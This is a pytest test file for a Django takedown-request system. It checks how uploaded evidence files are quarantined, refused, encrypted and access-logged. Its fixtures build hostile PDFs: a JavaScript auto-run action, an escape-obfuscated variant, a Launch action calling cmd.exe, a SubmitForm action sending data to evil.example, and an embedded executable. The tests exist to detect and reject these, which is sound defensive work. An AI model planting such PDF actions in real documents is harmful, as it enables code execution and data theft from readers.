"""Files of a request: what is taken, what is refused without leaving a byte, and who may look at it."""

import datetime
import hashlib
import io
from pathlib import Path

import pytest
from django.utils import timezone
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from takedowns import evidence, examining, filing, keys, references, vault
from takedowns.models import CaseEvent, DraftFiles, Evidence
from tests import make
from tests.hostile import files as hostile
from tests.takedowns import desk, sent
from workflow.errors import NotPermitted, ReasonMissing

pytestmark = pytest.mark.django_db


def opened():
    return evidence.open_draft(references.form_token())


def files_on_disk(settings):
    return sorted(path.name for path in (settings.PRIVATE_ROOT / "takedowns").glob("*"))


def written(writer):
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def acting(action):
    """A PDF that does something when it is opened; its objects are packed, so that no search in the bytes finds it."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    return written(writer)


def packed(name):
    """The same action behind an escaped name, as some write it to hide it."""
    return acting({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}).replace(
        b"/JavaScript", name
    )


def with_file():
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_attachment("x.exe", b"MZ")
    return written(writer)


def with_xfa():
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    form = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>"), NameObject("/Fields"): ArrayObject()})
    writer.root_object[NameObject("/AcroForm")] = form
    return written(writer)


def locked():
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("geheim", algorithm="RC4-128")
    return written(writer)


def with_link():
    """A page with an address to click on, and a first page to show: nothing that acts."""
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://example.org/")}
    )
    note = {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action}
    page[NameObject("/Annots")] = ArrayObject([DictionaryObject(note)])
    writer.root_object[NameObject("/OpenAction")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    return written(writer)


JAVASCRIPT = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
LAUNCH = {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
SUBMIT = {NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject("https://evil.example/")}
CHAINED = {
    NameObject("/S"): NameObject("/GoTo"),
    NameObject("/Next"): DictionaryObject(LAUNCH),
    NameObject("/D"): NumberObject(0),
}


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (acting(JAVASCRIPT), "脚本"),
        (packed(b"/Java#53cript"), "脚本"),
        (acting(LAUNCH), "启动程序"),
        (acting(SUBMIT), "提交表单"),
        (acting(CHAINED), "启动程序"),
        (with_file(), "内嵌文件"),
        (with_xfa(), "XFA 表单"),
        (locked(), "文件有密码"),
        (b"%PDF-1.7\nnothing at all", "无法解析"),
        (sent.pdf() + b"PK\x05\x06" + b"\0" * 18, "末尾另有内容"),
        (sent.pdf() + b"<script>alert(1)</script>", "末尾另有内容"),
    ],
)
def test_a_pdf_that_acts_or_cannot_be_read_is_kept_apart(data, why):
    kept = evidence.take(opened(), "材料.pdf", data)
    assert (kept.kind, kept.quarantined, kept.copy) == ("pdf", True, "")
    assert why in kept.why


@pytest.mark.parametrize(("data", "pages"), [(sent.pdf(), 1), (sent.pdf(100), 100), (with_link(), 1)])
def test_an_ordinary_pdf_is_not(data, pages):
    kept = evidence.take(opened(), "材料.PDF", data)
    assert (kept.quarantined, kept.why, kept.pages, kept.scan) == (False, "", pages, "unscanned")


REFUSED = {
    "html.pdf": (b"<!doctype html><script>alert(1)</script>", 415, "PDF"),
    "late.pdf": (b"\n\n" + sent.pdf(), 415, "PDF"),
    "101.pdf": (sent.pdf(101), 400, "101 页"),
    "200-megapixels.png": (hostile.png_header(20_000, 10_000), 400, "百万像素"),
    "11-megabytes.pdf": (b"%PDF-" + b"0" * 11 * 1024 * 1024, 413, "11.0 MB"),
    "empty.png": (b"", 400, "空文件"),
    "moving.webp": (hostile.moving("WEBP"), 400, "动图"),
    "wrong.png": (hostile.encoded("JPEG"), 415, "扩展名"),
    "paper.jpg": (sent.pdf(), 415, "扩展名"),
    "photo.heic": (b"\0\0\0\x18ftypheic", 415, "HEIC"),
    "letter.docx": (b"PK\x03\x04" + b"\0" * 99, 415, "Office"),
    "no-extension": (sent.pdf(), 415, "扩展名"),
    **{name: (data, None, "") for name, data in hostile.NOT_PICTURES.items()},
    **{f"{name}.{'webp' if 'webp' in name else 'png'}": (data, None, "") for name, data in hostile.TOO_LARGE.items()},
}


@pytest.mark.parametrize("name", REFUSED)
def test_scenario_24_a_refused_file_leaves_no_byte_and_one_sentence(name, settings):
    data, status, words = REFUSED[name]
    draft = opened()
    with pytest.raises(evidence.FileRefused) as refused:
        evidence.take(draft, name, data)
    assert words in refused.value.message
    assert refused.value.message.endswith("。")
    assert status in {None, refused.value.status}
    assert files_on_disk(settings) == []
    assert not Evidence.objects.exists()


@pytest.mark.parametrize("name", hostile.POLYGLOTS)
def test_scenario_24_the_copy_of_a_picture_has_nothing_but_the_picture(name):
    data = hostile.POLYGLOTS[name]
    draft = opened()
    kept = evidence.take(draft, name, data)
    copy = vault.get(keys.Box(draft.data_key), kept.copy, None)
    assert hostile.SCRIPT not in copy
    assert b"PK\x05\x06" not in copy
    assert vault.get(keys.Box(draft.data_key), kept.vault, kept.sha256) == data


def test_the_copy_is_turned_and_holds_no_place_and_no_words():
    draft = opened()
    kept = evidence.take(draft, "phone.jpg", hostile.with_place())
    copy = vault.get(keys.Box(draft.data_key), kept.copy, None)
    picture = Image.open(io.BytesIO(copy))
    assert picture.size == (480, 640)
    assert not picture.getexif()
    assert b"SECRET" not in copy


def test_a_scanned_page_stays_readable():
    draft = opened()
    kept = evidence.take(draft, "scan.png", hostile.encoded("PNG", (2480, 3508), mode="L", colour=200))
    assert Image.open(io.BytesIO(vault.get(keys.Box(draft.data_key), kept.copy, None))).size == (2480, 3508)


def test_nothing_on_the_disk_can_be_read(settings):
    sent.draft(name="私人文件.png", data=hostile.png_with_text())
    blobs = [path.read_bytes() for path in settings.PRIVATE_ROOT.rglob("*") if path.is_file()]
    assert len(blobs) == 2
    assert not any(b"PNG" in blob or b"SECRET-TEXT" in blob for blob in blobs)
    assert not settings.MEDIA_ROOT.exists() or not [*settings.MEDIA_ROOT.rglob("*")]


@pytest.mark.parametrize("name", hostile.NAMES[:-2])
def test_names_are_text_and_never_paths(name, settings):
    draft = opened()
    data = hostile.encoded("JPEG", (20, 20))
    name = name if name.endswith(".jpg") else f"{name}.jpg"
    kept = evidence.take(draft, name, data)
    told = evidence.name_of(kept)
    assert len(told) <= 120
    assert not set(told) & set("/\\\r\n\0\u202e")
    assert all(len(file) == 32 for file in files_on_disk(settings))


def test_the_same_file_twice_is_one_and_five_are_the_most():
    draft = opened()
    assert evidence.take(draft, "a.pdf", sent.pdf(1)) == evidence.take(draft, "b.pdf", sent.pdf(1))
    for pages in range(2, 6):
        evidence.take(draft, "a.pdf", sent.pdf(pages))
    with pytest.raises(evidence.FileRefused, match="最多 5 份"):
        evidence.take(draft, "a.pdf", sent.pdf(6))


def test_all_strangers_together_have_a_quota_for_a_day(monkeypatch):
    monkeypatch.setattr(filing, "A_DAY", 3_000)
    evidence.take(opened(), "a.pdf", sent.pdf(1))
    left = evidence.quota_left()
    assert 0 < left < 3_000
    with pytest.raises(evidence.FileRefused, match="确认邮箱后") as refused:
        evidence.take(opened(), "a.pdf", sent.pdf(40))
    assert refused.value.status == 429
    evidence.take(desk.case(make.published()), "a.pdf", sent.pdf(40))  # whoever has confirmed may send on
    assert evidence.quota_left() == left


def test_files_of_a_form_go_after_a_day_and_those_of_a_case_stay(settings):
    draft, other = sent.draft(), sent.draft(data=sent.pdf(), name="b.pdf")
    evidence.adopt(case := desk.case(make.published()), other)
    DraftFiles.objects.filter(pk=draft.pk).update(created_at=timezone.now() - datetime.timedelta(hours=25))
    assert evidence.wipe_drafts() == 1
    assert evidence.wipe_drafts() == 0
    assert list(evidence.files_of(case)) == list(Evidence.objects.all())


def test_a_file_that_was_not_kept_leaves_nothing(monkeypatch, settings):
    def fail(*args, **values):
        raise OSError("disk full")

    draft = opened()
    monkeypatch.setattr(Evidence.objects, "create", fail)
    with pytest.raises(OSError, match="disk full"):
        evidence.take(draft, "a.png", hostile.encoded("PNG"))
    assert files_on_disk(settings) == []


def test_a_file_goes_from_the_form_to_the_case(settings, django_capture_on_commit_callbacks):
    data = hostile.encoded("PNG", (40, 30))
    draft, case = sent.draft(data=data), desk.case(make.published())
    before = files_on_disk(settings)
    with django_capture_on_commit_callbacks(execute=True):
        evidence.adopt(case, draft)
    row = case.evidence.get()
    assert evidence.name_of(row) == "私人文件.png"
    assert vault.get(case.box, row.vault, row.sha256) == data
    assert files_on_disk(settings) == sorted([row.vault, row.copy])
    assert not set(before) & set(files_on_disk(settings))
    assert not DraftFiles.objects.exists()


def filed(purpose="proof", data=None):
    case = desk.case(make.published())
    return evidence.take(case, "私人文件.png", data or hostile.encoded("PNG", (40, 30)), purpose=purpose)


def test_every_sight_of_a_file_is_an_event_with_its_reason():
    row, by = filed(), desk.handler()
    copy = evidence.open_copy(row, by=by)
    assert (copy.name, copy.content_type) == ("私人文件.png", "image/png")
    with pytest.raises(ReasonMissing):
        evidence.open_original(row, by=by, reason=" ")
    original = evidence.open_original(row, by=by, reason="核对权属证明")
    assert hashlib.sha256(original.data).hexdigest() == row.sha256
    events = CaseEvent.objects.filter(case=row.case).order_by("seq")
    assert [event.kind for event in events] == ["seen_copy", "seen_file"]
    assert row.case.notes.get().text == "核对权属证明"
    assert "私人文件" not in sent.as_json([event.payload for event in events])


def test_identity_papers_are_for_few_and_never_without_a_reason():
    row = filed("identity")
    for by in (desk.handler(), make.user("regional_editor"), make.user("chief_editor"), make.user("administrator")):
        with pytest.raises(NotPermitted):
            evidence.open_copy(row, by=by, reason="想看一看")
        with pytest.raises(NotPermitted):
            evidence.open_original(row, by=by, reason="想看一看")
    owner = desk.handler("owner")
    row.case.owner = owner
    for by in (desk.legal(), owner):
        with pytest.raises(ReasonMissing):
            evidence.open_copy(row, by=by)
        assert evidence.open_copy(row, by=by, reason="核对身份").data
    assert CaseEvent.objects.filter(kind="seen_copy").count() == 2


def test_an_altered_original_is_not_handed_out(settings):
    row = filed()
    path = settings.PRIVATE_ROOT / "takedowns" / row.vault
    path.write_bytes(path.read_bytes()[:-1] + b"x")
    with pytest.raises(keys.Unreadable):
        evidence.open_original(row, by=desk.handler(), reason="核对权属证明")


def test_a_pdf_has_no_copy_to_look_at():
    row = evidence.take(desk.case(make.published()), "a.pdf", sent.pdf())
    with pytest.raises(evidence.FileRefused, match="原件"):
        evidence.open_copy(row, by=desk.handler())


@pytest.mark.parametrize(
    ("command", "verdict"), [("", "unscanned"), ("true", "clean"), ("false", "flagged"), ("/no/such", "unscanned")]
)
def test_a_scanner_may_say_something_and_never_stops_anything(command, verdict, settings):
    settings.SCAN_COMMAND = command
    row = filed()
    assert (row.scan, row.quarantined) == (verdict, verdict == "flagged")


def test_the_child_knows_nothing_of_ours():
    text = Path(examining.__file__).read_text(encoding="utf-8")
    assert "django" not in text
    assert "import articles" not in text
